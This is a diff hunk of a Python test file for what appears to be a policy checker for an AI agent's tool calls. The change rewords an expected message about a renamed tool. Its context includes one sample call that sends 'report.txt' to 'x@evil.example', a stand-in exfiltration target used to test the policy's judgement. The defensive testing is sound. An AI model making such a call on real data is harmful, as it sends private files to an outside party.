@@ -99,7 +99,7 @@ def test_the_calls_of_a_session_are_judged_by_what_it_had_seen_then(here: Path) 
     assert quoth(*OF_S1, cwd=here).out.endswith("asked about: 5, denied: 0, made unasked: 0.\n")
     (here / "t.hy").write_text(TOOLS.replace("send-file", "send-files"))
     gone = quoth(*OF_S1, "--policy", "p.hy", cwd=here)
-    assert "there is no tool named send-file any more." in gone.out
+    assert "the tool send-file no longer exists." in gone.out
     # one call is explained by what the session has seen until now
     one = '(send-files :to "x@evil.example" :path "report.txt")'
     words = ("policy", "explain", one, "--session", "s1", "--route", "reply", "--policy", "p.hy")
